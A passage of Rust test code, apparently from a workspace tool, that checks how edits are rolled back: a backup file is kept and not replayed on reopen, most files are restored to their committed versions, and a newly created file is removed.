    assert!(text.contains(&backup.display().to_string()), "{text}");
    assert_eq!(std::fs::read_to_string(&backup).unwrap(), "# demo\n");
    // The path keeps the committed version, as the error says; every other one is undone.
    assert_eq!(
        std::fs::read_to_string(r.join("README.md")).unwrap(),
        "# the agent's\n"
    );
    assert_eq!(
        std::fs::read_to_string(r.join("src/lib.rs")).unwrap(),
        "pub fn one() -> u32 { 1 }\n"
    );
    assert!(!r.join("src/new.rs").exists());
    // The kept backups are out of recovery's way: opening the workspace does not replay them.
    let ws = Workspace::open(r, f.state.path()).unwrap();
    assert_eq!(ws.recovered(), None);
    assert!(backup.exists());
}
